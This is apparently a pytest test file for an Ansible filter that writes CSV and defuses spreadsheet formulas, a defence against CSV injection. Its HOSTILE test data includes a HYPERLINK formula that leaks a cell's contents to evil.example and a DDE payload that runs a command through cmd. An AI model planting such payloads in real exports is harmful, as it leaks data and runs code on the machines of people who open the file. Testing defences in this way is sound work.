"""backupops.veeam.to_csv: a real CSV writer that neutralises spreadsheet formulas (OWASP, CSV injection).

Every column gets hostile text (quotes, commas, line breaks, formulas); the text is parsed back with Python's csv
module and must give exactly the columns and values written, with formulas defused.
"""

import csv
import io

import pytest
from ansible.errors import AnsibleFilterError

from ansible_collections.backupops.veeam.plugins.filter.to_csv import FilterModule, to_csv

COLUMNS = ["server", "account", "type", "roles", "service_account", "restore_scope"]
HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    '+1+cmd|" /C calc"!A0',
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    'db "prod", eu',
    "two\nlines",
    "comma, and \"quote\"",
    "plain",
]


def parse(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def defused(value):
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_text_in_every_column_comes_back_exactly_and_defused(value):
    row = {"server": value, "account": value, "type": value, "roles": [value, value], "service_account": value,
           "restore_scope": [value]}
    table = parse(to_csv([row], columns=COLUMNS))
    assert table[0] == COLUMNS
    assert len(table) == 2 and len(table[1]) == len(COLUMNS)
    assert table[1] == [defused(value), defused(value), defused(value), defused(value) + "; " + value,
                        defused(value), defused(value)]


def test_no_field_a_spreadsheet_would_evaluate():
    rows = [dict((column, value) for column in COLUMNS) for value in HOSTILE]
    for line in parse(to_csv(rows, columns=COLUMNS))[1:]:
        for field in line:
            assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), field


def test_every_field_is_quoted_and_lines_end_with_crlf():
    text = to_csv([{"a": "x", "b": None}], columns=["a", "b"])
    assert text == '"a","b"\r\n"x",""\r\n'


def test_values_of_other_types_and_missing_keys():
    rows = [{"server": "vbr01", "service_account": False, "roles": [], "restore_scope": None, "port": 9419}]
    table = parse(to_csv(rows, columns=["server", "service_account", "roles", "restore_scope", "port", "missing"]))
    assert table[1] == ["vbr01", "False", "", "", "9419", ""]


def test_columns_default_to_the_keys_of_the_first_row_and_header_can_be_left_out():
    assert parse(to_csv([{"b": "1", "a": "2"}])) == [["b", "a"], ["1", "2"]]
    assert parse(to_csv([{"a": "1"}], header=False)) == [["1"]]
    assert to_csv([]) == ""
    assert parse(to_csv([], columns=["server", "account"])) == [["server", "account"]]


def test_neutralising_can_be_turned_off_and_the_separator_changed():
    table = parse(to_csv([{"a": "=1+1", "b": ["x", "y"]}], neutralize_formulas=False, list_separator="|"))
    assert table[1] == ["=1+1", "x|y"]


@pytest.mark.parametrize("rows, fragment", [
    ("text", "needs a list of rows"),
    ({"a": 1}, "needs a list of rows"),
    ([{"a": 1}, ["not", "a", "dict"]], "row 1 is a list"),
])
def test_wrong_input_is_explained(rows, fragment):
    with pytest.raises(AnsibleFilterError) as caught:
        to_csv(rows)
    assert fragment in str(caught.value)


def test_the_filter_is_registered():
    assert FilterModule().filters()["to_csv"] is to_csv
